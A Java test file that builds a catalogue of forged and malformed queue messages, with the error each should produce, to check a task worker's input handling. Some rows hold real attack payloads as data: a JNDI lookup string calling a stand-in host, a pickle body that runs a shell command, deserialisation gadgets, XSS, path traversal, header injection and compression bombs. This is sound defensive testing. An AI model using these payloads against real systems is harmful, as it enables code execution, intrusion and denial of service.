package io.skirret.systemtests.badinput;

import static io.skirret.systemtests.badinput.Forged.EXPIRES;
import static io.skirret.systemtests.badinput.Forged.RUNS;
import static io.skirret.systemtests.badinput.Forged.WAITS;
import static io.skirret.systemtests.badinput.Forged.row;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.jspecify.annotations.Nullable;

/** The catalogue of hostile messages. Each row ends where its name says. */
final class HostileMessages {

    private static final String NONE = "[[], {}, {}]";

    private HostileMessages() {}

    static Stream<Forged> all(String queue) {
        return Stream.of(
                        envelope(),
                        identity(),
                        contentType(),
                        brokersOwn(queue),
                        properties(),
                        encoding(),
                        json(),
                        numbers(),
                        compression(),
                        shape(),
                        arguments(),
                        names(),
                        retries(),
                        times(),
                        embed(),
                        headers(),
                        ours())
                .flatMap(List::stream);
    }

    private static List<Forged> envelope() {
        return List.of(
                row("no headers at all", "not-protocol-2").headers(null),
                row("an empty table of headers", "not-protocol-2").headers(Map.of()),
                row("headers of something else", "not-protocol-2").headers(Map.of("event", "order.created")),
                row("protocol 1", "protocol-1-unsupported")
                        .headers(null)
                        .body("{\"task\": \"bad.good\", \"id\": \"x\", \"args\": [], \"kwargs\": {}}"),
                row("task is null", "not-protocol-2").header("task", null),
                row("task is a number", "bad-header-type").header("task", 5),
                row("task is a truth", "bad-header-type").header("task", true),
                row("task is bytes", "bad-header-type").header("task", new byte[] {'b', 'a', 'd'}),
                row("task is a table", "bad-header-type").header("task", Map.of("task", "bad.good")),
                row("task is an array", "bad-header-type").header("task", List.of("bad.good")),
                row("task is a time", "bad-header-type").header("task", new Date(0)));
    }

    private static List<Forged> identity() {
        return List.of(
                row("no id", "bad-id").without("id"),
                row("id is null", "bad-id").header("id", null),
                row("id is empty", "bad-id").header("id", ""),
                row("id is blank", "bad-id").header("id", "  "),
                row("id is a number", "bad-id").header("id", 7),
                row("id of 10 KB", "bad-id").header("id", "x".repeat(10_000)),
                row("id of 256 bytes", "bad-id").header("id", "x".repeat(256)),
                row("id with a line break", "bad-id").header("id", "a\r\nINJECTED"),
                row("id with an escape", "bad-id").header("id", "a\u001b[31m"),
                row("id with a direction mark", "bad-id").header("id", "a\u202eb"),
                row("id with NUL", "bad-id").header("id", "a\u0000b"),
                row("id that is no UUID", RUNS).header("id", "order-17"),
                row("id with HTML", RUNS).header("id", "<script>alert(1)</script>"),
                row("id that is not the correlation id", RUNS).with(p -> p.correlationId("another")),
                row("root_id is a number", "bad-header-type").header("root_id", 5),
                row("parent_id of 10 KB", "bad-id").header("parent_id", "x".repeat(10_000)));
    }

    private static List<Forged> contentType() {
        List<Forged> rows = new ArrayList<>();
        for (String refused : new @Nullable String[] {
            null,
            "",
            "application/x-python-serialize",
            "application/x-java-serialized-object",
            "application/x-yaml",
            "application/x-msgpack",
            "application/data",
            "text/plain",
            "application/json; charset=utf-16",
            "application/json+evil",
            "application/json\r\nX: y"
        }) {
            rows.add(row("content type " + refused, "refused-content-type").with(p -> p.contentType(refused)));
        }
        for (String taken : List.of(
                "APPLICATION/JSON", "application/json ", "application/json; charset=utf-8", "application/json;")) {
            rows.add(row("content type '" + taken + "'", RUNS).with(p -> p.contentType(taken)));
        }
        for (String refused : List.of("binary", "utf-16", "latin-1", "base64", "gzip", "x".repeat(255), "")) {
            rows.add(row("content encoding " + refused, "refused-content-encoding")
                    .with(p -> p.contentEncoding(refused)));
        }
        rows.add(row("no content encoding", RUNS).with(p -> p.contentEncoding(null)));
        rows.add(row("content encoding in capitals", RUNS).with(p -> p.contentEncoding("UTF-8")));
        return rows;
    }

    /** Headers in which the broker writes, or which it acts on. */
    private static List<Forged> brokersOwn(String queue) {
        Map<String, Object> death = new HashMap<>();
        death.put("queue", queue);
        death.put("exchange", "");
        death.put("reason", "expired");
        death.put("count", 4L);
        death.put("time", new Date(0));
        death.put("routing-keys", List.of(queue));
        return List.of(
                row("forged x-death", RUNS).header("x-death", List.of(death)),
                row("x-death of a wrong type", RUNS).header("x-death", "expired"),
                row("forged x-death on its way through a delay", WAITS, RUNS)
                        .header("x-death", List.of(death))
                        .header("x-first-death-queue", queue)
                        .header("x-first-death-reason", "expired")
                        .header("x-first-death-exchange", "")
                        .header("eta", Duration.ofMillis(300)),
                row("forged x-death on its way through retries", "RETRIED", "RETRIED", "retries-exhausted")
                        .task("bad.fail")
                        .header("skirret_policy", "quick")
                        .header("x-death", List.of(death)),
                row("x-delivery-count that is text", RUNS).header("x-delivery-count", "many"),
                row("x-delivery-count below none", RUNS).header("x-delivery-count", -1),
                row("x-delivery-count beyond all", RUNS).header("x-delivery-count", Long.MAX_VALUE),
                row("x-acquired-count beyond all", RUNS).header("x-acquired-count", Long.MAX_VALUE),
                row("x-first-death-queue is a number", RUNS).header("x-first-death-queue", -1),
                row("CC to nowhere", RUNS).header("CC", List.of("no-such-queue-" + UUID.randomUUID())));
    }

    private static List<Forged> properties() {
        List<Forged> rows = new ArrayList<>(List.of(
                row("priority 255", RUNS).with(p -> p.priority(255)),
                row("transient", RUNS).with(p -> p.deliveryMode(1)),
                row("transient, and a dead letter", "bad-json")
                        .with(p -> p.deliveryMode(1))
                        .body("x"),
                row("no delivery mode, and a dead letter", "bad-json")
                        .with(p -> p.deliveryMode(null))
                        .body("x"),
                row("time before all", "bad-json")
                        .with(p -> p.timestamp(new Date(-62_135_596_800_000L)))
                        .body("x"),
                row("time after all", "bad-json")
                        .with(p -> p.timestamp(new Date(Long.MAX_VALUE)))
                        .body("x"),
                row("type and app id with control characters", "bad-json")
                        .with(p -> p.type("a\r\nINJECTED").appId("\u001b[31m${jndi:ldap://evil.example/x}"))
                        .body("x"),
                row("message id of 255 bytes", "bad-json")
                        .with(p -> p.messageId("x".repeat(255)))
                        .body("x"),
                row("correlation id of 255 bytes, and a reply", RUNS)
                        .with(p -> p.correlationId("\u00e9".repeat(127))
                                .replyTo(UUID.randomUUID().toString()))));
        for (String address : List.of(
                "skirret",
                "skirret.delay.000000000010ms",
                "amq.rabbitmq.reply-to.g1h2AA5yZXBseUA",
                "a/b#c\nd",
                "../../users",
                "x".repeat(255),
                " ")) {
            rows.add(row("reply to '" + address.strip() + "'", RUNS).with(p -> p.replyTo(address)));
        }
        return rows;
    }

    private static List<Forged> encoding() {
        List<Forged> rows = new ArrayList<>(List.of(
                row("no body", "bad-json").body(""),
                row("overlong UTF-8", "bad-utf8").task("bad.text").args("\"\u00c0\u00af\""),
                row("UTF-8 cut short", "bad-utf8").task("bad.text").args("\"\u00e2\u0082\""),
                row("a surrogate in UTF-8", "bad-utf8").task("bad.text").args("\"\u00ed\u00a0\u0080\""),
                row("latin-1", "bad-utf8").task("bad.text").args("\"\u00e9\""),
                row("byte order mark", "bad-utf8").body("\u00ef\u00bb\u00bf" + NONE),
                row("UTF-16", "bad-utf8").body(NONE.getBytes(StandardCharsets.UTF_16)),
                row("UTF-16LE", "bad-utf8").body(NONE.getBytes(StandardCharsets.UTF_16LE)),
                row("UTF-16BE", "bad-utf8").body(NONE.getBytes(StandardCharsets.UTF_16BE)),
                row("UTF-32", "bad-utf8").body(NONE.getBytes(java.nio.charset.Charset.forName("UTF-32BE"))),
                row("Java serialisation", "bad-utf8").body("\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap"),
                row("Python's pickle", "bad-utf8").body("\u0080\u0004\u0095(cos\nsystem\nS'id'\ntR.")));
        for (String one : List.of("[", "{", "\"", " ", "x", "\n")) {
            rows.add(row("the single byte " + (int) one.charAt(0), "bad-json").body(one));
        }
        rows.add(row("the single byte 0", "bad-utf8").body(new byte[1]));
        rows.add(row("the single byte 255", "bad-utf8").body(new byte[] {(byte) 0xff}));
        rows.add(row("the single byte 0x30", "bad-body-shape").body("0"));
        return rows;
    }

    private static List<Forged> json() {
        StringBuilder keys = new StringBuilder("[[], {");
        for (int i = 0; i < 300_000; i++) {
            keys.append(i == 0 ? "\"" : ",\"").append(i).append("\":0");
        }
        keys.append("}, {}]");
        List<Forged> rows = new ArrayList<>();
        for (String bad : List.of(
                "[[], {}, {}",
                "[[], {}, {}] x",
                "[[], {}, {}] [[], {}, {}]",
                "[[], {\"a\": 1, \"a\": 2}, {}]",
                "[['a'], {}, {}]",
                "[[NaN], {}, {}]",
                "[[Infinity], {}, {}]",
                "[[-Infinity], {}, {}]",
                "[[0123], {}, {}]",
                "[[+1], {}, {}]",
                "[[.5], {}, {}]",
                "[[1.], {}, {}]",
                "[[0x10], {}, {}]",
                "[[1,], {}, {}]",
                "[[] /* comment */, {}, {}]",
                "[[], {}, {}] // comment",
                "[[], {a: 1}, {}]",
                "[[\"line\nbreak\"], {}, {}]",
                "[[\"\\x41\"], {}, {}]",
                "[[undefined], {}, {}]",
                "<task/>",
                "--- !ruby/object:Gem::Installer")) {
            rows.add(row("body " + bad.replace("\n", " "), "bad-json").body(bad));
        }
        rows.add(row("65 deep", "bad-json").body("[[" + "[".repeat(63) + "]".repeat(63) + "], {}, {}]"));
        rows.add(row("1,001 deep", "bad-json").body("[".repeat(1_001) + "]".repeat(1_001)));
        rows.add(row("100,000 deep", "bad-json").body("[".repeat(100_000)));
        rows.add(row("100,000 objects deep", "bad-json").body("{\"a\":".repeat(100_000)));
        rows.add(row("a name of 1 KB", "arity-mismatch").body("[[], {\"" + "x".repeat(1_000) + "\": 1}, {}]"));
        rows.add(row("a name of 60 KB", "bad-json").body("[[], {\"" + "x".repeat(60_000) + "\": 1}, {}]"));
        rows.add(row("300,000 names", "arity-mismatch").body(keys.toString()));
        rows.add(row("2,000,000 elements", "bad-json").args("0,".repeat(1_999_999) + "0"));
        rows.add(row("half a surrogate pair", "bad-utf8").task("bad.text").args("\"\\ud800\""));
        return rows;
    }

    private static List<Forged> numbers() {
        List<Forged> rows = new ArrayList<>();
        for (String bad : List.of(
                "2147483648",
                "-2147483649",
                "9223372036854775808",
                "1" + "0".repeat(500),
                "3.7",
                "1e400",
                "\"5\"",
                "\"\"",
                "null",
                "true",
                "[1]",
                "{}")) {
            String shown = bad.length() > 30 ? "10^500" : bad;
            rows.add(row("int " + shown, "arg-type-mismatch").task("bad.add").args("1, " + bad));
        }
        rows.add(row("a number of 2,000 digits", "bad-json").task("bad.add").args("1, " + "9".repeat(2_000)));
        rows.add(row("2^53 + 1", RUNS).task("bad.exact").args(String.valueOf(BadInputTasks.BEYOND_DOUBLE)));
        return rows;
    }

    private static List<Forged> compression() {
        byte[] bomb = zlib(new byte[12 * 1024 * 1024]);
        return List.of(
                row("zlib", RUNS).header("compression", "zlib").body(zlib(Forged.ascii(NONE))),
                row("gzip as Kombu calls it", RUNS)
                        .header("compression", "application/x-gzip")
                        .body(zlib(Forged.ascii(NONE))),
                row("gzip", RUNS).header("compression", "gzip").body(gzip(Forged.ascii(NONE))),
                row("a zlib bomb", "bomb").header("compression", "zlib").body(bomb),
                row("a gzip bomb", "bomb").header("compression", "gzip").body(gzip(new byte[12 * 1024 * 1024])),
                row("a bomb in a bomb", "bad-utf8")
                        .header("compression", "zlib")
                        .body(zlib(bomb)),
                row("broken zlib", "refused-compression")
                        .header("compression", "zlib")
                        .body("\u0078\u009cnot really"),
                row("zlib cut short", "refused-compression")
                        .header("compression", "zlib")
                        .body(java.util.Arrays.copyOf(bomb, 20)),
                row("zlib that is not", "refused-compression").header("compression", "zlib"),
                row("compression bzip2", "refused-compression").header("compression", "application/x-bz2"),
                row("compression zstd", "refused-compression").header("compression", "zstd"),
                row("compression ../../evil", "refused-compression").header("compression", "../../evil"),
                row("compression is a number", "bad-header-type").header("compression", 1),
                row("not compressed, though it is said nowhere", "bad-utf8").body(zlib(Forged.ascii(NONE))));
    }

    private static List<Forged> shape() {
        List<Forged> rows = new ArrayList<>();
        for (String bad : List.of(
                "{}",
                "\"text\"",
                "null",
                "5",
                "[]",
                "[[], {}]",
                "[[], {}, {}, {}]",
                "[{}, {}, {}]",
                "[null, {}, {}]",
                "[\"ab\", {}, {}]",
                "[[], [], {}]",
                "[[], null, {}]",
                "[[], {}, []]",
                "[[], {}, \"x\"]")) {
            rows.add(row("body " + bad, "bad-body-shape").body(bad));
        }
        rows.add(row("embed is null", RUNS).body("[[], {}, null]"));
        return rows;
    }

    private static List<Forged> arguments() {
        return List.of(
                row("too few", "arity-mismatch").task("bad.add").args("1"),
                row("too many", "arity-mismatch").task("bad.add").args("1, 2, 3"),
                row("some for a task without", "arity-mismatch").args("1"),
                row("by name", RUNS).task("bad.add").body("[[1], {\"b\": 2}, {}]"),
                row("twice", "arity-mismatch").task("bad.add").body("[[1, 2], {\"b\": 2}, {}]"),
                row("unknown name", "arity-mismatch").task("bad.add").body("[[1, 2], {\"self\": 2}, {}]"),
                row("__proto__", "arity-mismatch").task("bad.add").body("[[1, 2], {\"__proto__\": {}}, {}]"),
                row("an object for text", "arg-type-mismatch").task("bad.text").args("{}"),
                row("a number for text", "arg-type-mismatch").task("bad.text").args("5"),
                row("a tagged uuid that is none", "arg-type-mismatch")
                        .task("bad.text")
                        .args("{\"__type__\": \"uuid\", \"__value__\": \"nonsense\"}"),
                row("class names are plain data", RUNS)
                        .task("bad.plain")
                        .args("{\"@class\": \"java.lang.ProcessBuilder\", \"@type\": \"x\", \"$ref\": \"#\"}"),
                row("a gadget for a map", "arg-type-mismatch")
                        .task("bad.plain")
                        .args("[\"java.lang.ProcessBuilder\", {\"command\": [\"id\"]}]"));
    }

    private static List<Forged> names() {
        return Stream.of(
                        "../../etc/passwd",
                        "java.lang.Runtime.exec",
                        "<script>alert(1)</script>",
                        "\"><img src=x onerror=alert(1)>",
                        "x".repeat(255),
                        "x".repeat(5_000),
                        "",
                        " ",
                        "bad.good ",
                        "BAD.GOOD",
                        "bad.g\u03bfod",
                        "bad.good\u0000",
                        "bad.good\u200b",
                        "\u202edoog.dab",
                        "bad.good\r\nINJECTED",
                        "\u001b[2Jbad.good",
                        "${jndi:ldap://evil.example/x}",
                        "io.skirret.systemtests.badinput.BadInputTasks.good",
                        "celery.backend_cleanup")
                .map(name -> row(
                                "task " + (name.length() > 60 ? name.length() + " bytes" : escaped(name)),
                                "unknown-task")
                        .task(name))
                .toList();
    }

    private static List<Forged> retries() {
        List<Forged> rows = new ArrayList<>();
        for (Object bad : new @Nullable Object[] {
            -1, 2_147_483_648L, "3", 3.5, null, 1_000_000_000_000_000_000L, true, List.of(), Long.MIN_VALUE
        }) {
            rows.add(row("retries " + bad, "bad-retries").header("retries", bad));
        }
        rows.add(row("retries beyond the task's maximum", "retries-exhausted")
                .task("bad.fail")
                .header("retries", 1_000));
        rows.add(row("as many retries as there are numbers", "retries-exhausted")
                .task("bad.fail")
                .header("retries", Integer.MAX_VALUE));
        return rows;
    }

    private static List<Forged> times() {
        List<Forged> rows = new ArrayList<>();
        for (Object bad : new Object[] {
            "soon",
            "infinity",
            "",
            1_795_298_391L,
            12.5,
            "2026-02-30T00:00:00+00:00",
            "2020-01-01T24:00:00+00:00",
            "2016-12-31T23:59:60+00:00",
            "2020-01-01T00:00:00+25:00",
            "2020-01-01T00:00:00Europe/Nowhere",
            "\u0662\u0660\u0662\u0660-01-01T00:00:00",
            "+292278994-08-17T07:12:55Z",
            "2020-01-01T00:00:00+00:00" + " ".repeat(5_000),
            Map.of(),
            new Date(0)
        }) {
            String shown = String.valueOf(bad).length() > 60 ? "of 5 KB" : escaped(String.valueOf(bad));
            rows.add(row("eta " + shown, "bad-time").header("eta", bad));
            rows.add(row("expires " + shown, "bad-time").header("expires", bad));
        }
        for (String past : List.of(
                "2020-01-01T00:00:00.123456+00:00",
                "2020-01-01T00:00:00.123456789Z",
                "2020-01-01T00:00:00",
                "2020-01-01",
                "2020-01-01T00:00:00-00:00",
                "0001-01-01T00:00:00+00:00")) {
            rows.add(row("eta " + past, RUNS).header("eta", past));
            rows.add(row("expires " + past, EXPIRES).header("expires", past));
        }
        rows.add(row("eta in a moment", WAITS, RUNS).header("eta", Duration.ofMillis(300)));
        rows.add(row("eta in ten thousand years", WAITS).header("eta", "9999-12-31T23:59:59.999999+00:00"));
        rows.add(row("expired before it is due", EXPIRES)
                .header("eta", "9999-12-31T23:59:59.999999+00:00")
                .header("expires", "2020-01-01T00:00:00+00:00"));
        return rows;
    }

    private static List<Forged> embed() {
        String link = "{\"task\": \"bad.good\", \"args\": [], \"kwargs\": {}, \"options\": {}}";
        List<Forged> rows = new ArrayList<>();
        for (String name : List.of("callbacks", "errbacks", "chain")) {
            rows.add(row(name, "unsupported-embed").body("[[], {}, {\"" + name + "\": [" + link + "]}]"));
        }
        rows.add(row("chord", "unsupported-embed").body("[[], {}, {\"chord\": " + link + "}]"));
        rows.add(row("a chain of text", "unsupported-embed").body("[[], {}, {\"chain\": \"x\"}]"));
        rows.add(row("a chain of 20,000", "unsupported-embed")
                .body("[[], {}, {\"chain\": [" + (link + ",").repeat(19_999) + link + "]}]"));
        rows.add(row("an embed of nothing", RUNS)
                .body("[[], {}, {\"callbacks\": null, \"errbacks\": [], \"chain\": null, \"chord\": null}]"));
        rows.add(row("an embed of something unheard of", RUNS).body("[[], {}, {\"shutdown\": true}]"));
        return rows;
    }

    private static List<Forged> headers() {
        return List.of(
                row("lang of 1 KB", RUNS).header("lang", "x".repeat(1_024)),
                row("lang is a number", RUNS).header("lang", 1),
                row("origin with HTML and line breaks", RUNS).header("origin", "gen1@<b>\r\nevil</b>"),
                row("shadow of another task", RUNS).header("shadow", "bad.add"),
                row("utc is false", RUNS).header("utc", false),
                row("hostile stamps", RUNS)
                        .header("stamps", Map.of("__proto__", Map.of("id", "x")))
                        .header("stamped_headers", List.of("id", "task", "__proto__")),
                row("ignore_result is text", "bad-header-type").header("ignore_result", "yes"),
                row("timelimit is a number", "bad-header-type").header("timelimit", 5),
                row("timelimit of one", "bad-header-type").header("timelimit", List.of(1)),
                row("timelimit of text", "bad-header-type").header("timelimit", List.of("1", "2")),
                row("timelimit below none", "bad-header-type").header("timelimit", List.of(-1, -1)),
                row("timelimit beyond all", "bad-header-type").header("timelimit", List.of(1e300, 1e300)),
                row("a header of 100 KB, and a dead letter", "bad-json")
                        .header("baggage", "x".repeat(100_000))
                        .body("x"),
                row("a thousand headers, and a dead letter", "bad-json")
                        .headers(many())
                        .body("x"),
                row("headers 30 deep, and a dead letter", "bad-json")
                        .header("deep", nested(29))
                        .body("x"));
    }

    /** Headers of our own, forged. */
    private static List<Forged> ours() {
        return List.of(
                row("an unknown policy", RUNS).header("skirret_policy", "no-such-policy"),
                row("a policy that is a number", "bad-header-type").header("skirret_policy", 5),
                row("attempts that are text", RUNS).header("skirret_attempts", "{{{"),
                row("attempts of a wrong type, in a failure", "retries-exhausted")
                        .task("bad.fail")
                        .header("retries", 2)
                        .header("skirret_attempts", Map.of("x", List.of(1, 2))),
                row("priority of ours that is none", RUNS).header("skirret_priority", "high"),
                row("redelivered that is text", RUNS).header("skirret_redelivered", "many"),
                row("redelivered below none", RUNS).header("skirret_redelivered", Long.MIN_VALUE),
                row("redelivered beyond all", "killed-worker").header("skirret_redelivered", Long.MAX_VALUE),
                row("unknown delays that are text", RUNS).header("skirret_unknown_delays", "x"),
                row("replays that are text", "bad-json")
                        .header("skirret_replays", "x")
                        .body("x"),
                row("a dead letter's reason before it is one", "bad-json")
                        .header("skirret_dead_reason", "rejected")
                        .header("skirret_dead_queue", "elsewhere")
                        .body("x"));
    }

    private static Map<String, @Nullable Object> many() {
        Map<String, @Nullable Object> headers = new HashMap<>();
        headers.put("task", "bad.good");
        headers.put("id", UUID.randomUUID().toString());
        for (int i = 0; i < 1_000; i++) {
            headers.put("x-header-" + i, i);
        }
        return headers;
    }

    static Map<String, Object> nested(int depth) {
        Map<String, Object> table = Map.of("end", 1);
        for (int i = 1; i < depth; i++) {
            table = Map.of("deeper", table);
        }
        return table;
    }

    private static byte[] zlib(byte[] plain) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(bytes)) {
            out.write(plain);
        } catch (IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] gzip(byte[] plain) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(plain);
        } catch (IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static String escaped(String text) {
        StringBuilder safe = new StringBuilder();
        text.chars().forEach(c -> safe.append(c < ' ' || c > '~' ? "\\u%04x".formatted(c) : String.valueOf((char) c)));
        return safe.toString();
    }
}
